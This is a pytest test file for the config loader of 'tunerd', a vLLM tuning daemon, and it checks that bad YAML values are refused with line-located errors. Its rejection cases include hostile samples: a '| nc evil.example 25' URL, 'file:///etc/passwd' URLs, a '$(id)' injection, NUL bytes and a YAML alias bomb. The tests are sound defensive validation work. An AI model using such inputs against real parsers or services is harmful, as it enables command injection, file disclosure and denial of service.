"""The config file: DESIGN §4.8's example loads; every mistake is located."""

from __future__ import annotations

import os
import time
import typing
from pathlib import Path

import pytest

from tunerd.config import ConfigError, NotifyConfig, load_config, notify_targets, rate_of
from tunerd.notify.sinks import KINDS

DESIGN_EXAMPLE = """\
engines:
  - name: llama31-8b
    control: supervise
    command: [vllm, serve, /srv/models/Llama-3.1-8B-Instruct-AWQ]
    env: {HF_HUB_OFFLINE: "1"}
    url: http://127.0.0.1:8000
    gpus: [0]
    settings: {gpu_memory_utilization: 0.92, max_model_len: 32768, max_num_seqs: 8,
               max_num_batched_tokens: 2048, kv_cache_dtype: fp8}
    bounds: {gpu_memory_utilization: [0.80, 0.95], max_num_seqs: [4, 16],
             max_num_batched_tokens: [512, 8192]}
    model: {name: llama-3.1-8b, weights: awq}
    hooks: {pre_stop: [/usr/local/bin/lb-drain, llama31]}
gpu: {source: nvml, interval: 250ms}
metrics: {interval: 2s}
clock: {source: system}
mode: advise
policies: [policies/*.yaml]
guards: {max_restarts: 3, window: 1h, on_exhausted: hold, quiet: {max_running: 0, for: 2m}}
notify:
  - {name: ops, kind: feishu, url_env: TUNERD_FEISHU_URL, secret_env: TUNERD_FEISHU_SECRET}
state_dir: /var/lib/tunerd
listen: {metrics: 127.0.0.1:9464, status: /run/tunerd/tunerd.sock}
"""


def test_the_design_example_loads(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # the service's EnvironmentFile holds the sink's URL and secret
    monkeypatch.setenv("TUNERD_FEISHU_URL", "https://open.feishu.cn/open-apis/bot/v2/hook/t0ken")
    monkeypatch.setenv("TUNERD_FEISHU_SECRET", "feishu-secret-value")
    (tmp_path / "policies").mkdir()
    for name in ("b.yaml", "a.yaml"):
        (tmp_path / "policies" / name).write_text("version: 1\npolicies: []\n")
    path = tmp_path / "tunerd.yaml"
    path.write_text(DESIGN_EXAMPLE)
    config = load_config(path)
    [engine] = config.engines
    assert engine.settings["kv_cache_dtype"] == "fp8"
    assert engine.drain == 120.0
    assert config.gpu.interval == 0.25
    assert config.guards.window == 3600.0
    assert config.guards.quiet is not None
    assert config.guards.quiet.for_ == 120.0
    assert config.mode == "advise"
    assert config.policy_files() == [tmp_path / "policies" / "a.yaml", tmp_path / "policies" / "b.yaml"]


def test_a_single_engine_block_is_shorthand(tmp_path: Path) -> None:
    text = "engine:\n  name: one\n  command: [vllm, serve, m]\n  settings: {max_num_seqs: 4}\n"
    config = load_config(tmp_path / "c.yaml", text)
    assert [e.name for e in config.engines] == ["one"]


def _problems(text: str) -> list[str]:
    with pytest.raises(ConfigError) as caught:
        load_config("c.yaml", text)
    return caught.value.problems


def test_every_problem_is_located() -> None:
    problems = _problems(
        "engines:\n"
        "  - name: a\n"
        "    command: [vllm, serve, m, --max-num-seqs, '8', --disable-log-stats]\n"  # line 3
        "    settings:\n"
        "      gpu_memory_utilization: 1.5\n"  # line 5
        "      swap_space: 4\n"  # line 6
        "    bounds: {max_num_seqs: [4, zero]}\n"  # line 7
        "  - name: a\n"  # line 8
        "    command: vllm serve m\n"  # line 9
        "mode: yolo\n"  # line 10
        "colour: blue\n"  # line 11
    )
    text = "\n".join(problems)
    assert "c.yaml:3: engines[0].command[3]: --max-num-seqs is tuned by tunerd" in text
    assert "c.yaml:3: engines[0].command[5]: --disable-log-stats is not allowed in command" in text
    assert (
        "c.yaml:5: engines[0].settings.gpu_memory_utilization: gpu_memory_utilization must be in (0, 1]"
        in text
    )
    assert "c.yaml:6: engines[0].settings.swap_space: not a tunable" in text
    assert "c.yaml:7: engines[0].bounds.max_num_seqs[1]: max_num_seqs takes a number" in text
    assert "c.yaml:8: engines[1].name: duplicate engine name (first at engines[0])" in text
    assert "c.yaml:9: engines[1].command: an argv list, never a shell string" in text
    assert any(p.startswith("c.yaml:10: mode:") for p in problems)
    assert "c.yaml:11: colour: unknown field" in text


def test_systemd_control_needs_a_unit_and_engines_are_required() -> None:
    problems = _problems("engine: {name: a, control: systemd, command: [x], env: {A: b}}\n")
    assert any("unit: systemd control needs" in p for p in problems)
    assert any("command: systemd control: the command is the unit's ExecStart" in p for p in problems)
    assert any("env: systemd control: set the environment in the unit" in p for p in problems)
    assert (
        load_config("c.yaml", "engine: {name: a, control: systemd, unit: vllm-a.service}\n").engines[0].unit
    )
    assert any("command: the engine's argv list" in p for p in _problems("engine: {name: a}\n"))
    assert any("engines" in p for p in _problems("mode: act\n"))
    assert any("not both" in p for p in _problems("engine: {name: a, command: [x]}\nengines: []\n"))


def test_the_simulator_sources_need_its_url_and_no_other_source_takes_one() -> None:
    engine = "engine: {name: a, command: [x]}\n"
    problems = _problems(engine + "clock: {source: sim}\ngpu: {source: nvml, url: 'http://h:1'}\n")
    assert "c.yaml:2: clock.source: source: sim needs url: (the simulator's URL)" in problems
    assert "c.yaml:3: gpu.url: url: is only for source: sim" in problems
    config = load_config("c.yaml", engine + "clock: {source: sim, url: 'http://127.0.0.1:8000'}\n")
    assert (config.clock.source, config.clock.url) == ("sim", "http://127.0.0.1:8000")


def test_hooks_are_argv_lists_with_known_names() -> None:
    problems = _problems(
        "engine:\n"
        "  name: a\n"
        "  command: [vllm, serve, m]\n"
        "  hooks:\n"
        "    pre_stop: /usr/local/bin/lb-drain a\n"  # line 5
        "    post_stop: [/usr/local/bin/lb-add, a]\n"  # line 6
        "    post_start: []\n"  # line 7
    )
    text = "\n".join(problems)
    assert "c.yaml:5: engines[0].hooks.pre_stop: an argv list, never a shell string" in text
    assert "c.yaml:6: engines[0].hooks.post_stop: not a hook (hooks: pre_stop, post_start)" in text
    assert "c.yaml:7: engines[0].hooks.post_start: an empty command" in text
    good = load_config(
        "c.yaml",
        "engine: {name: a, command: [x], hooks: {pre_stop: [lb-drain, a]}, hook_timeout: 30s}\n",
    )
    assert good.engines[0].hooks == {"pre_stop": ["lb-drain", "a"]}
    assert good.engines[0].hook_timeout == 30.0


def test_notify_sinks_are_checked_with_their_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TUNERD_FEISHU_URL", "https://open.feishu.cn/open-apis/bot/v2/hook/t0ken")
    monkeypatch.setenv("TUNERD_TEAMS_URL", "https://acme.webhook.office.com/webhookb2/x")
    monkeypatch.delenv("TUNERD_DING_URL", raising=False)
    problems = _problems(
        "engine: {name: a, command: [x]}\n"
        "notify:\n"
        "  - {name: ops, kind: feishu, url_env: TUNERD_FEISHU_URL, secret_env: TUNERD_NOPE_SECRET}\n"  # 3
        "  - {name: ops, kind: dingtalk, url_env: TUNERD_DING_URL}\n"  # 4
        "  - {name: t, kind: teams, url_env: TUNERD_TEAMS_URL}\n"  # 5
        "  - {name: p, kind: pager, url: 'http://x'}\n"  # 6
        "  - {name: w, kind: webhook, url: 'http://x', url_env: TUNERD_FEISHU_URL, rate: fast}\n"  # 7
    )
    text = "\n".join(problems)
    assert "c.yaml:3: notify[0].secret_env: TUNERD_NOPE_SECRET is not set in tunerd's environment" in text
    assert "c.yaml:4: notify[1].name: duplicate sink name 'ops'" in text
    assert "c.yaml:4: notify[1].url_env: TUNERD_DING_URL is not set in tunerd's environment" in text
    assert "c.yaml:5: notify[2].kind: Office 365 connector URLs (*.webhook.office.com) are retired" in text
    assert any(p.startswith("c.yaml:6: notify[3].kind:") for p in problems)
    assert any(p.startswith("c.yaml:7: notify[4]:") and "one of them" in p for p in problems)


def test_notify_targets_read_urls_and_secrets_from_the_environment() -> None:
    config = load_config(
        "c.yaml",
        "engine: {name: a, command: [x]}\n"
        "notify: [{name: ops, kind: dingtalk, url_env: TUNERD_CANARY_URL, secret_env: TUNERD_CANARY_SECRET,"
        " language: zh, min_severity: warning, rate: 10/1m}]\n",
    )
    [target] = notify_targets(config, os.environ)
    assert (target.name, target.kind, target.language, target.min_severity) == (
        "ops",
        "dingtalk",
        "zh",
        "warning",
    )
    assert (target.url, target.secret) == (
        os.environ["TUNERD_CANARY_URL"],
        os.environ["TUNERD_CANARY_SECRET"],
    )
    assert rate_of(config.notify[0].rate or "") == (10, 60.0)
    assert set(typing.get_args(NotifyConfig.model_fields["kind"].annotation)) == set(KINDS)


def test_ladders_as_the_examples_suggest_them() -> None:
    """policies/examples/datacenter-80g.yaml tells operators to give an engine `ladders:`; the
    config refused the field until now (found in review)."""
    config = load_config(
        "c.yaml",
        "engine:\n  name: big\n  command: [vllm, serve, m]\n"
        "  bounds: {max_num_seqs: [64, 1024]}\n"
        "  ladders: {max_num_seqs: [64, 128, 256, 512, 768, 1024]}\n",
    )
    assert config.engines[0].ladders == {"max_num_seqs": [64, 128, 256, 512, 768, 1024]}
    problems = _problems(
        "engine:\n  name: big\n  command: [vllm, serve, m]\n  ladders:\n"
        "    max_num_seqs: [64, lots]\n    swap_space: [1, 2]\n    max_model_len: []\n"
    )
    text = "\n".join(problems)
    assert "c.yaml:5: engines[0].ladders.max_num_seqs[1]: max_num_seqs takes a number" in text
    assert "c.yaml:6: engines[0].ladders.swap_space: not a tunable" in text
    assert "c.yaml:7: engines[0].ladders.max_model_len: expected a list of rungs" in text


# -- issue 16: every bad value is a located problem, and what `run` would trip on is refused --

ENGINE = "engines:\n  - name: a\n    command: [vllm, serve, m]\n"


@pytest.mark.parametrize(
    ("extra", "expected"),
    [
        # each raised TypeError inside load_config before: a traceback, and `job_failed` on SIGHUP
        (
            "notify: [{name: [], kind: slack, url: 'http://x'}]\n",
            "c.yaml:4: notify[0].name: Input should be a valid string, got []",
        ),
        (
            "notify: [{name: t, kind: teams, url: 5}]\n",
            "c.yaml:4: notify[0].url: Input should be a valid string, got 5",
        ),
        (
            "notify: [{name: {a: 1}, kind: slack, url_env: [X]}]\n",
            "c.yaml:4: notify[0].name: Input should be a valid string",
        ),
        # a bool is not a number, a string not an integer
        (
            "guards: {shared_gpu_max: true}\n",
            "c.yaml:4: guards.shared_gpu_max: Input should be a valid number, got True",
        ),
        (
            "guards: {max_restarts: true}\n",
            "c.yaml:4: guards.max_restarts: Input should be a valid integer, got True",
        ),
        (
            "guards: {quiet: {max_running: '3'}}\n",
            "c.yaml:4: guards.quiet.max_running: Input should be a valid integer, got '3'",
        ),
        (
            "    gpus: [true]\n",
            "c.yaml:4: engines[0].gpus[0]: expected a GPU's index (0, 1, ...) or UUID, got True",
        ),
        (
            "    gpus: [-1]\n",
            "c.yaml:4: engines[0].gpus[0]: expected a GPU's index (0, 1, ...) or UUID, got -1",
        ),
        ("    env: {A: 1}\n", "c.yaml:4: engines[0].env.A: Input should be a valid string, got 1"),
        ("listen: {status: 5}\n", "c.yaml:4: listen.status: Input should be a valid string, got 5"),
    ],
)
def test_a_value_of_the_wrong_type_is_a_located_problem_never_an_exception(extra: str, expected: str) -> None:
    problems = _problems(ENGINE + extra)
    assert any(problem.startswith(expected) for problem in problems), problems


@pytest.mark.parametrize(
    ("extra", "expected"),
    [
        # `config check` said ok; `run` then failed or misbehaved
        (
            "    env: {'A=B': x}\n",
            "c.yaml:4: engines[0].env.A=B: expected a variable's name (no '=', no NUL)",
        ),
        (
            '    env: {"A\\0B": x}\n',
            "c.yaml:4: engines[0].env.A\x00B: a NUL character (\\0) is not accepted in a name",
        ),
        ('    env: {A: "x\\0y"}\n', "c.yaml:4: engines[0].env.A: a NUL character (\\0) is not accepted"),
        (
            'listen: {status: "/run/t\\0.sock"}\n',
            "c.yaml:4: listen.status: a NUL character (\\0) is not accepted",
        ),
        ("listen: {status: ''}\n", "c.yaml:4: listen.status: expected the status socket's path"),
        (
            "listen: {metrics: '$(id):80'}\n",
            "c.yaml:4: listen.metrics: expected HOST:PORT such as 127.0.0.1:9464",
        ),
        ("listen: {metrics: '127.0.0.1:65536'}\n", "c.yaml:4: listen.metrics: expected HOST:PORT"),
        ("listen: {metrics: '9464'}\n", "c.yaml:4: listen.metrics: expected HOST:PORT"),
        ("listen: {metrics: ':9464'}\n", "c.yaml:4: listen.metrics: expected HOST:PORT"),
        (
            "listen: {metric: '127.0.0.1:9464'}\n",
            "c.yaml:4: listen.metric: unknown field (allowed: status, metrics)",
        ),
        (
            "notify: [{name: t, kind: webhook, url: '| nc evil.example 25'}]\n",
            "c.yaml:4: notify[0].url: expected an http:// or https:// URL to a host",
        ),
        (
            "notify: [{name: t, kind: webhook, url: 'file:///etc/passwd'}]\n",
            "c.yaml:4: notify[0].url: expected an http:// or https:// URL to a host, not a file: URL",
        ),
        (
            "notify: [{name: t, kind: webhook, url: 'http:///x'}]\n",
            "c.yaml:4: notify[0].url: expected an http:// or https:// URL to a host: no host",
        ),
        (
            "notify: [{name: t, kind: webhook, url: 'https://h:99999/x'}]\n",
            "c.yaml:4: notify[0].url: expected an http:// or https:// URL to a host: Port out of range",
        ),
        (
            "notify: [{name: t, kind: webhook, url: 'http://[::g]/x'}]\n",
            "c.yaml:4: notify[0].url: expected an http:// or https:// URL to a host",
        ),
        (
            "    url: 'file:///etc/passwd'\n",
            "c.yaml:4: engines[0].url: expected an http:// or https:// URL to a host, not a file: URL",
        ),
        (
            "gpu: {source: sim, url: 'ftp://h/'}\n",
            "c.yaml:4: gpu.url: expected an http:// or https:// URL to a host, not a ftp: URL",
        ),
        (
            "    bounds: {max_num_seqs: [16, 4]}\n",
            "c.yaml:4: engines[0].bounds.max_num_seqs: max_num_seqs bounds are [low, high], got [16, 4]: the low one first",
        ),
        (
            "    bounds: {max_num_seqs: [4]}\n",
            "c.yaml:4: engines[0].bounds.max_num_seqs: max_num_seqs bounds are [low, high], got [4]",
        ),
        ("    bounds: {max_num_seqs: [4, 16, 32]}\n", "max_num_seqs bounds are [low, high], got [4, 16, 32]"),
        (
            "    settings: {max_num_seqs: 1.0e+30}\n",
            "c.yaml:4: engines[0].settings.max_num_seqs: max_num_seqs must be at most 1,048,576, got 1e+30",
        ),
        (
            "    settings: {max_num_seqs: 1000000000000000000000000000000}\n",
            "max_num_seqs must be at most 1,048,576",
        ),
        (
            "    settings: {max_model_len: 4294967296}\n",
            "max_model_len must be at most 2,147,483,647, got 4294967296",
        ),
        (
            "    settings: {kv_cache_memory_bytes: 2199023255552}\n",
            "kv_cache_memory_bytes must be at most 1,099,511,627,776",
        ),
        ("    settings: {max_num_seqs: .inf}\n", "max_num_seqs takes a positive whole number, got inf"),
        (
            "    bounds: {max_num_batched_tokens: [512, 1.0e+30]}\n",
            "c.yaml:4: engines[0].bounds.max_num_batched_tokens[1]: max_num_batched_tokens must be at most",
        ),
        ("    probation: 1.0e+30\n", "c.yaml:4: engines[0].probation: duration 1e+30 is longer than 30 days"),
        ("    drain: 31d\n", "c.yaml:4: engines[0].drain: duration '31d' is longer than 30 days"),
        (
            "    startup_timeout: 0s\n",
            "c.yaml:4: engines[0].startup_timeout: duration '0s' must be more than zero",
        ),
        ("guards: {window: 0s}\n", "c.yaml:4: guards.window: duration '0s' must be more than zero"),
        ("metrics: {interval: 0}\n", "c.yaml:4: metrics.interval: duration 0 must be more than zero"),
        ("gpu: {interval: 0ms}\n", "c.yaml:4: gpu.interval: duration '0ms' must be more than zero"),
        (
            "guards: {quiet: {within: 99999d}}\n",
            "c.yaml:4: guards.quiet.within: duration '99999d' is longer than 30 days",
        ),
    ],
)
def test_what_run_would_trip_on_is_refused_at_load(extra: str, expected: str) -> None:
    problems = _problems(ENGINE + extra)
    assert any(problem.startswith(expected) or expected in problem for problem in problems), problems


@pytest.mark.parametrize(
    ("arg", "expected"),
    [
        # vLLM's parser reads `_` as `-` and an unambiguous prefix as the whole flag
        (
            "--gpu_memory_utilization",
            "--gpu_memory_utilization (vLLM reads it as --gpu-memory-utilization) is tuned by tunerd",
        ),
        (
            "--disable_log_stats",
            "--disable_log_stats (vLLM reads it as --disable-log-stats) is not allowed in command",
        ),
        ("--max-num-seq=6", "--max-num-seq (an abbreviation of --max-num-seqs) is tuned by tunerd"),
        ("--no-enforce", "--no-enforce (an abbreviation of --no-enforce-eager) is tuned by tunerd"),
        ("--shutdown_timeout=5", "--shutdown_timeout (vLLM reads it as --shutdown-timeout) is set by tunerd"),
    ],
)
def test_tunables_and_forbidden_flags_in_any_spelling_vllm_reads_are_refused(arg: str, expected: str) -> None:
    problems = _problems(f"engine: {{name: a, command: [vllm, serve, m, '{arg}']}}\n")
    assert problems == [f"c.yaml:1: engines[0].command[3]: {expected}" + problems[0].split(expected, 1)[1]]


def test_urls_and_addresses_people_write_are_accepted(monkeypatch: pytest.MonkeyPatch) -> None:
    """Host names with `_`, IPv6 literals, ports, user info: all http(s) to a host."""
    monkeypatch.setenv("TUNERD_TEST_HOOK_URL", "https://user:pw@[fe80::1%25eth0]:8443/hook?t=1")
    urls = [
        "http://alertmanager_1:9093/api/v2/alerts",
        "https://[2001:db8::1]:443/x",
        "http://[::1]/",
        "HTTPS://Hooks.Example.COM./x?y=z#f",
        "http://127.0.0.1:8080",
    ]
    sinks = "".join(f"  - {{name: s{i}, kind: webhook, url: '{url}'}}\n" for i, url in enumerate(urls))
    text = (
        "engine: {name: a, command: [x], url: 'http://vllm_a.internal:8000'}\n"
        "listen: {metrics: '[::1]:0', status: /run/tunerd/t.sock}\n"
        f"notify:\n{sinks}  - {{name: env, kind: webhook, url_env: TUNERD_TEST_HOOK_URL}}\n"
    )
    config = load_config("c.yaml", text)
    assert [sink.url for sink in config.notify[:-1]] == urls
    for address in ("127.0.0.1:9464", "0.0.0.0:0", "localhost:65535", "metrics_host:9464", "::1:9464"):
        assert load_config("c.yaml", f"engine: {{name: a, command: [x]}}\nlisten: {{metrics: '{address}'}}\n")


def test_a_url_env_holding_no_url_is_refused_without_showing_it(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TUNERD_TEST_HOOK_URL", "file:///etc/secret-token-123")
    problems = _problems(ENGINE + "notify: [{name: s, kind: webhook, url_env: TUNERD_TEST_HOOK_URL}]\n")
    assert problems == [
        "c.yaml:4: notify[0].url_env: TUNERD_TEST_HOOK_URL holds no usable URL: "
        "expected an http:// or https:// URL to a host, not a file: URL"
    ]


def test_a_policy_glob_that_matches_no_file_is_refused(tmp_path: Path) -> None:
    config = tmp_path / "tunerd.yaml"
    config.write_text(ENGINE + "policies: [policies/*.yaml, /nowhere/*.yaml]\n")
    with pytest.raises(ConfigError) as caught:
        load_config(config)
    assert caught.value.problems == [
        f"{config}:4: policies[0]: 'policies/*.yaml' matches no file (relative to {tmp_path.resolve()})",
        f"{config}:4: policies[1]: '/nowhere/*.yaml' matches no file",
    ]
    (tmp_path / "policies").mkdir()
    (tmp_path / "policies" / "a.yaml").write_text("version: 1\npolicies: []\n")
    config.write_text(ENGINE + "policies: [policies/*.yaml, policies/b.yaml]\n")
    # a path without wildcards that is missing is the policy loader's to report
    assert load_config(config).policy_files() == [tmp_path / "policies" / "a.yaml", tmp_path / "policies" / "b.yaml"]  # fmt: skip


# A 400-byte file that PyYAML expands into 9**9 strings (20 s and 1.1 GB before issue 16).
BOMB = "engines: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{b}: &{b} [*{a}, *{a}, *{a}, *{a}, *{a}, *{a}, *{a}, *{a}, *{a}]\n"
    for a, b in zip("abcdefgh", "bcdefghi", strict=True)
)


def test_a_yaml_alias_bomb_is_refused_before_it_is_expanded() -> None:
    assert 350 <= len(BOMB) <= 450
    started = time.monotonic()
    problems = _problems(BOMB)
    assert time.monotonic() - started < 5  # loose: it must not expand (that takes 20 s and a GB)
    assert problems == ["c.yaml:1: YAML anchors and aliases (&x, *x) are not accepted: write the values out"]


@pytest.mark.parametrize(
    ("text", "line", "message"),
    [
        (
            ENGINE + "    settings: &s {max_num_seqs: 8}\n",
            4,
            "YAML anchors and aliases (&x, *x) are not accepted",
        ),
        (ENGINE + "    settings: *s\n", 4, "YAML anchors and aliases (&x, *x) are not accepted"),
        (ENGINE + "    settings:\n      <<: {max_num_seqs: 8}\n", 5, "YAML merge keys (<<) are not accepted"),
    ],
)
def test_anchors_aliases_and_merge_keys_are_refused_with_their_line(
    text: str, line: int, message: str
) -> None:
    [problem] = _problems(text)
    assert problem.startswith(f"c.yaml:{line}: {message}")


def test_a_quoted_merge_key_is_an_ordinary_key_and_refused_as_such() -> None:
    [problem] = _problems(ENGINE + "    settings: {'<<': 1}\n")
    assert problem.startswith("c.yaml:4: engines[0].settings.<<: not a tunable")


def test_files_that_are_no_config_files_are_refused_without_hanging(tmp_path: Path) -> None:
    fifo = tmp_path / "fifo.yaml"
    os.mkfifo(fifo)
    for path, message in ((fifo, "not a regular file"), (tmp_path, "not a regular file"), (Path("/dev/zero"), "not a regular file")):  # fmt: skip
        with pytest.raises(ConfigError) as caught:
            load_config(path)
        assert caught.value.problems == [f"{path}: {message}"]
